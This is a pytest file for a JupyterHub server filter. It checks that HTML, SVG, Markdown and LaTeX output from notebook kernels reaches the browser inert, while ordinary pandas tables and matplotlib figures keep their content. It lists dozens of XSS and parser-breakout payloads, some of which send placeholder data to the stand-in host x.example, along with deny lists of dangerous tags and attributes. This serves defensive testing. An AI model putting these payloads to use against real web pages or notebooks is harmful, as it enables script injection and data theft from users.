"""S1/D4: kernel output reaches the browser inert - nothing in it runs, downloads or fetches.

JupyterLab renders the outputs of cells run in the session as trusted: a ``<script>`` in an
HTML output runs, handlers fire, links with ``download`` save files, ``data:``/``blob:`` URLs
and CSS ``url()`` fetch.  Each member below is one way of carrying active content, in one of
several surroundings, sent as a live message through the server's own filter
(``kernelws.cap_message``) and as a stored notebook output (``cap_notebook_outputs``).  The
result is checked with a different parser (libxml2's HTML parser, lxml) than the one that
rebuilt it.  Ordinary outputs - pandas tables and Styler, matplotlib SVG, Chinese text - keep
their cells, text and drawing.
"""
from __future__ import annotations

import dataclasses
import io
import re
import uuid

import pytest
from lxml import etree
from lxml import html as lhtml

from hub_config.singleuser import inert
from hub_config.singleuser.config import from_policy
from hub_config.singleuser.kernelws import ExecutionBudgets, cap_message
from hub_config.singleuser.outputs import SessionBudget, cap_notebook_outputs
from policies import load_policy

CAPS = dataclasses.replace(from_policy(load_policy(None).sessions).caps,
                           message_bytes=400_000, execution_bytes=2_000_000,
                           session_bytes=50_000_000, session_lines=10_000_000)

# Active content, one member each (what a kernel would print with IPython.display.HTML).
ACTIVE_HTML = {
    "script": "<script>fetch('/api/contents')</script>",
    "script_upper": "<SCRIPT SRC=//x.example/a.js></SCRIPT>",
    "script_split_attr": "<script\ntype='module'\n>import('data:text/javascript,1')</script>",
    "img_onerror": "<img src=x onerror=alert(1)>",
    "body_onload": "<body onload=alert(1)>",
    "div_onclick": "<div onclick=\"alert(1)\">click</div>",
    "td_onmouseover": "<table><tr><td onmouseover=alert(1)>v</td></tr></table>",
    "details_ontoggle": "<details open ontoggle=alert(1)><summary>s</summary></details>",
    "a_download_data": "<a download='rows.csv' href='data:text/csv;base64,QSxCCjEsMgo='>save</a>",
    "a_download_blob": "<a download href='blob:https://x/123'>save</a>",
    "a_javascript": "<a href='javascript:alert(1)'>j</a>",
    "a_javascript_entities": "<a href='&#106;avascript:alert(1)'>j</a>",
    "a_javascript_tab": "<a href='java\tscript:alert(1)'>j</a>",
    "a_vbscript": "<a href='vbscript:msgbox(1)'>v</a>",
    "a_external": "<a href='https://x.example/?d=ROWS' target=_blank>out</a>",
    "iframe_srcdoc": "<iframe srcdoc=\"<script>parent.alert(1)</script>\"></iframe>",
    "iframe_data": "<iframe src='data:text/html,<script>1</script>'></iframe>",
    "object_data": "<object data='data:text/html;base64,PHNjcmlwdD4xPC9zY3JpcHQ+'></object>",
    "embed": "<embed src='data:image/svg+xml,<svg onload=alert(1)>'>",
    "form_action": "<form action='https://x.example'><input name=d value=ROWS><button>go</button></form>",
    "button_formaction": "<button formaction='javascript:alert(1)'>b</button>",
    "meta_refresh": "<meta http-equiv='refresh' content='0;url=data:text/html,x'>",
    "base_href": "<base href='https://x.example/'>",
    "link_stylesheet": "<link rel=stylesheet href='https://x.example/a.css'>",
    "link_prefetch": "<link rel=prefetch href='https://x.example/ROWS'>",
    "style_import": "<style>@import url(https://x.example/a.css);</style>",
    "style_url": "<style>td{background:url('https://x.example/?ROWS')}</style>",
    "style_escaped_url": "<style>td{background:u\\72l(https://x.example/)}</style>",
    "style_attr_url": "<div style=\"background-image:url(data:image/png;base64,AA)\">d</div>",
    "style_attr_expression": "<div style=\"width:expression(alert(1))\">d</div>",
    "style_comment_split": "<div style=\"background:u/**/rl(https://x.example)\">d</div>",
    "svg_inline_onload": "<svg onload=alert(1)><circle r=1 /></svg>",
    "svg_inline_script": "<svg><script>alert(1)</script></svg>",
    "math_href": "<math><mi href='javascript:alert(1)'>x</mi></math>",
    "template": "<template><script>alert(1)</script></template>",
    "video_poster": "<video poster='https://x.example/p.png' src='blob:x'></video>",
    "audio_src": "<audio src='data:audio/wav;base64,AA' autoplay></audio>",
    "picture_srcset": "<picture><source srcset='https://x.example/a.png'></picture>",
    "img_srcset": "<img srcset='https://x.example/a.png 1x'>",
    "input_image": "<input type=image src='https://x.example/a.png'>",
    "noscript_breakout": "<noscript><p title=\"</noscript><img src=x onerror=alert(1)>\">",
    "comment_breakout": "<!--><script>alert(1)</script>-->",
    "cdata_like": "<![CDATA[<script>alert(1)</script>]]>",
    "textarea_breakout": "<textarea><script>alert(1)</script></textarea>",
    "title_breakout": "<title></title><script>alert(1)</script>",
    "plaintext": "<plaintext><script>alert(1)</script>",
    "xmp": "<xmp><script>alert(1)</script></xmp>",
    "unclosed_attr": "<div title='x><script>alert(1)</script>",
    "nested_script": "<scr<script>ipt>alert(1)</script>",
    "canvas": "<canvas id=c></canvas><script>c.toBlob(b=>open(URL.createObjectURL(b)))</script>",
    "frameset": "<frameset><frame src='javascript:alert(1)'></frameset>",
    "applet": "<applet code=x></applet>",
    "area_href": "<map><area href='javascript:alert(1)'></map>",
}
SURROUNDINGS = {
    "bare": "{}",
    "after_table": "<table><tr><th>a</th></tr><tr><td>1</td></tr></table>{}",
    "in_cell": "<table><tr><td>{}</td></tr></table>",
    "in_div_style": "<div style='color:red'><p>{}</p></div>",
}
BAD_TAGS = {"script", "iframe", "frame", "frameset", "object", "embed", "applet", "form",
            "input", "button", "img", "link", "meta", "base", "svg", "math", "template",
            "video", "audio", "source", "picture", "canvas", "textarea", "area", "map",
            "noscript", "xmp", "plaintext", "body", "title"}
BAD_ATTRS = {"href", "src", "srcdoc", "srcset", "action", "formaction", "download", "data",
             "poster", "background", "code", "codebase", "xlink:href"}


def _live(data: dict) -> dict:
    msg = {"header": {"msg_id": uuid.uuid4().hex, "msg_type": "display_data"},
           "parent_header": {"msg_id": uuid.uuid4().hex}, "channel": "iopub",
           "content": {"data": data, "metadata": {}}, "metadata": {}, "buffers": []}
    out = cap_message(msg, CAPS, ExecutionBudgets(CAPS), SessionBudget(CAPS))
    return out["content"]["data"]


def _stored(data: dict) -> dict:
    outs = cap_notebook_outputs([{"output_type": "display_data", "data": data,
                                  "metadata": {}}], CAPS, SessionBudget(CAPS))
    return outs[0]["data"]


def _assert_inert_html(text: str) -> None:
    low = text.lower()
    assert "javascript:" not in re.sub(r"\s+", "", low) and "vbscript:" not in low
    root = lhtml.fragment_fromstring(text, create_parent="div") if text.strip() else None
    if root is None:
        return
    for el in root.iter():
        if not isinstance(el.tag, str):
            continue
        assert el.tag.lower() not in BAD_TAGS, (el.tag, text)
        for name, value in el.attrib.items():
            assert not name.lower().startswith("on"), (name, text)
            assert name.lower() not in BAD_ATTRS, (name, text)
            if name.lower() == "style":
                assert inert.safe_css(value), (value, text)
        if el.tag == "style":
            assert inert.safe_css(el.text or ""), text


MEMBERS = [(v, s) for v in sorted(ACTIVE_HTML) for s in sorted(SURROUNDINGS)]


@pytest.mark.parametrize("vector,surround", MEMBERS, ids=[f"{v}-{s}" for v, s in MEMBERS])
@pytest.mark.parametrize("path", ["live", "stored"])
def test_active_html_is_made_inert(vector, surround, path):
    html_in = SURROUNDINGS[surround].format(ACTIVE_HTML[vector])
    data = (_live if path == "live" else _stored)({"text/html": html_in, "text/plain": "x"})
    _assert_inert_html(data.get("text/html", ""))


# SVG members, each put into a real matplotlib drawing.
ACTIVE_SVG = {
    "root_onload": ("<svg ", "<svg onload=\"alert(1)\" "),
    "script": ("</svg>", "<script>alert(1)</script></svg>"),
    "script_cdata": ("</svg>", "<script><![CDATA[alert(1)]]></script></svg>"),
    "a_javascript": ("</svg>", "<a xlink:href=\"javascript:alert(1)\"><text>t</text></a></svg>"),
    "a_data": ("</svg>", "<a href=\"data:text/csv,ROWS\" download=\"r.csv\"><text>t</text></a></svg>"),
    "set_href": ("</svg>", "<set attributeName=\"href\" to=\"javascript:alert(1)\"/></svg>"),
    "animate_href": ("</svg>", "<animate attributeName=\"xlink:href\" values=\"javascript:1\"/></svg>"),
    "foreign_object": ("</svg>", "<foreignObject><div xmlns=\"http://www.w3.org/1999/xhtml\">"
                                 "<iframe src=\"javascript:1\"/></div></foreignObject></svg>"),
    "image_external": ("</svg>", "<image href=\"https://x.example/?ROWS\"/></svg>"),
    "image_svg_data": ("</svg>", "<image href=\"data:image/svg+xml;base64,PHN2Zz4=\"/></svg>"),
    "use_external": ("</svg>", "<use href=\"https://x.example/a.svg#x\"/></svg>"),
    "style_url": ("</svg>", "<style>path{fill:url(https://x.example/)}</style></svg>"),
    "attr_url": ("</svg>", "<rect fill=\"url(https://x.example/#g)\" width=\"1\" height=\"1\"/></svg>"),
    "handler_on_path": ("<path ", "<path onmouseover=\"alert(1)\" "),
    "handler_uppercase": ("<path ", "<path ONCLICK=\"alert(1)\" "),
    "feimage": ("</svg>", "<filter><feImage href=\"https://x.example\"/></filter></svg>"),
    "iframe_ns": ("</svg>", "<iframe xmlns=\"http://www.w3.org/1999/xhtml\" src=\"x\"/></svg>"),
}


@pytest.fixture(scope="module")
def mpl_svg() -> str:
    import matplotlib

    matplotlib.use("Agg")
    import matplotlib.pyplot as plt
    import numpy as np

    fig, ax = plt.subplots()
    ax.plot([1, 3, 2], label="病例數")
    ax.imshow(np.arange(16).reshape(4, 4))
    ax.legend()
    buf = io.StringIO()
    fig.savefig(buf, format="svg")
    plt.close(fig)
    return buf.getvalue()


def _assert_inert_svg(text: str) -> None:
    root = etree.fromstring(text.encode())
    for el in root.iter():
        if not isinstance(el.tag, str):
            continue
        local = etree.QName(el).localname
        assert local in inert.SVG_TAGS, local
        for name, value in el.attrib.items():
            attr = etree.QName(name).localname
            assert not attr.lower().startswith("on"), attr
            assert "javascript:" not in value.lower()
            if attr == "href":
                assert value.startswith("#") or (local == "image" and re.match(
                    r"data:image/(png|jpeg);base64,", value)), value
            if "url(" in value:
                assert inert.safe_css(value), value


@pytest.mark.parametrize("vector", sorted(ACTIVE_SVG))
@pytest.mark.parametrize("path", ["live", "stored"])
def test_active_svg_is_made_inert(mpl_svg, vector, path):
    old, new = ACTIVE_SVG[vector]
    svg = mpl_svg.replace(old, new, 1)
    assert svg != mpl_svg
    data = (_live if path == "live" else _stored)({"image/svg+xml": svg})
    if "image/svg+xml" in data:
        _assert_inert_svg(data["image/svg+xml"])


def test_svg_that_is_not_svg_is_dropped():
    for bad in ("<html><script>1</script></html>", "<svg", "<!DOCTYPE x [<!ENTITY a 'b'>]><x/>"):
        data = _live({"image/svg+xml": bad})
        assert "image/svg+xml" not in data and "withheld" in data["text/plain"]


@pytest.mark.parametrize("md", [
    "[rows](data:text/csv;base64,QQ==)", "<a download href='data:,x'>x</a>",
    "![x](https://x.example/?ROWS)", "[r]: javascript:alert(1)\n[go][r]",
    "<https://x.example/?ROWS>", "https://x.example/?ROWS", "<script>alert(1)</script>",
], ids=["md_link_data", "md_raw_html", "md_image_external", "md_ref_js", "md_autolink",
        "md_bare_url", "md_script"])
def test_markdown_is_shown_as_its_text(md):
    data = _live({"text/markdown": md, "text/plain": "<IPython.core.display.Markdown object>"})
    assert "text/markdown" not in data
    assert data["text/plain"].startswith(md[:10])


@pytest.mark.parametrize("tex", [r"$\href{javascript:alert(1)}{x}$", r"$\url{https://x.example}$",
                                 r"$\class{x}{y}$", r"$\style{background:url(x)}{y}$"])
def test_latex_loses_links_and_attributes(tex):
    data = _live({"text/latex": tex})
    assert not re.search(r"\\(href|url|class|style)\b", data["text/latex"]), data


def test_page_payloads_and_user_expressions_are_made_inert():
    html_in = "<b>help</b><img src=x onerror=alert(1)><script>1</script>"
    msg = {"header": {"msg_id": uuid.uuid4().hex, "msg_type": "execute_reply"},
           "parent_header": {"msg_id": uuid.uuid4().hex}, "channel": "shell",
           "content": {"status": "ok", "execution_count": 1,
                       "payload": [{"source": "page", "start": 0,
                                    "data": {"text/html": html_in, "text/plain": "help"}}],
                       "user_expressions": {"x": {"status": "ok", "metadata": {},
                                                  "data": {"text/html": html_in}}}},
           "metadata": {}, "buffers": []}
    out = cap_message(msg, CAPS, ExecutionBudgets(CAPS), SessionBudget(CAPS))["content"]
    page = out["payload"][0]["data"]["text/html"]
    _assert_inert_html(page)
    _assert_inert_html(out["user_expressions"]["x"]["data"]["text/html"])
    assert "<b>help</b>" in page


# --- ordinary outputs keep what they show
def _frames():
    import numpy as np
    import pandas as pd

    idx = pd.MultiIndex.from_product([["北區", "南區"], [2021, 2022]], names=["區域", "年"])
    return {
        "plain": pd.DataFrame(np.arange(12).reshape(4, 3), columns=list("abc")),
        "chinese_multiindex": pd.DataFrame({"病例數": [12, 15, 9, 30], "比例": [0.1, 0.2,
                                           None, 0.4]}, index=idx),
        "strings": pd.DataFrame({"診斷": ["E11 糖尿病", "I10 高血壓 <b>", "a & b"]}),
    }


@pytest.mark.parametrize("kind", ["plain", "chinese_multiindex", "strings", "styler"])
def test_pandas_tables_keep_their_cells_and_text(kind):
    frames = _frames()
    if kind == "styler":
        html_in = frames["plain"].style.background_gradient().format("{:.1f}").to_html()
    else:
        html_in = frames[kind]._repr_html_()
    got = _live({"text/html": html_in})["text/html"]
    a = lhtml.fragment_fromstring(html_in, create_parent="div")
    b = lhtml.fragment_fromstring(got, create_parent="div")
    for tag in ("tr", "td", "th", "table", "style"):
        assert len(a.findall(f".//{tag}")) == len(b.findall(f".//{tag}")), tag
    assert a.text_content() == b.text_content()
    if kind == "styler":
        assert "background-color" in got and 'id="T_' in got


def test_matplotlib_svg_keeps_its_drawing(mpl_svg):
    got = _live({"image/svg+xml": mpl_svg})["image/svg+xml"]
    a, b = etree.fromstring(mpl_svg.encode()), etree.fromstring(got.encode())
    for tag in ("path", "use", "image", "clipPath", "g", "text"):
        ns = "{http://www.w3.org/2000/svg}"
        assert len(a.findall(f".//{ns}{tag}")) == len(b.findall(f".//{ns}{tag}")), tag
    assert b.get("viewBox") == a.get("viewBox")
    _assert_inert_svg(got)
